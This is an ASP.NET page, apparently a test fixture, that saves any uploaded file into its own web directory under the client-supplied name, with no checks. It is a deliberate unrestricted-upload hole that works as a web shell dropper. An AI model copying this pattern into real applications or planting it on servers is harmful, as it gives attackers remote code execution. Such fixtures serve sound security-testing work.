<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    // Hand-written fixture: stores the posted file, under the name the
    // client gave it, in the directory of the page itself.
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Files.Count != 1) { Response.Write("<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"); return; }
        HttpPostedFile posted = Request.Files[0];
        byte[] data = new byte[posted.ContentLength];
        posted.InputStream.Read(data, 0, data.Length);
        string dir = new FileInfo(Request.PhysicalPath).DirectoryName;
        using (FileStream fs = new FileStream(Path.Combine(dir, Path.GetFileName(posted.FileName)), FileMode.Create))
        {
            fs.Write(data, 0, data.Length);
        }
        Response.Write("ok");
    }
</script>
